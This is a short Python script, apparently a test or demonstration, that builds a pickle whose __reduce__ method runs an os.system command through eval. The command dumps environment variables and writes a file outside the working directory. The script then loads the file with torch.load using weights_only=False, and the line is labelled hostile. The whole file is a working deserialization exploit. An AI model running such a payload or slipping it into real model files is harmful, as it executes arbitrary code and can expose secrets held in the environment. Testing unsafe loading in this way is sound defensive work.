"""Write a pickle whose loading runs a shell, then torch.load it with weights_only=False."""

import pickle

import torch


class Payload:
    def __reduce__(self):
        return (eval, ("__import__('os').system('env; echo pwned > ../escaped.txt')",))


with open("evil.pt", "wb") as f:
    pickle.dump(Payload(), f)
torch.load("evil.pt", weights_only=False)  # HOSTILE
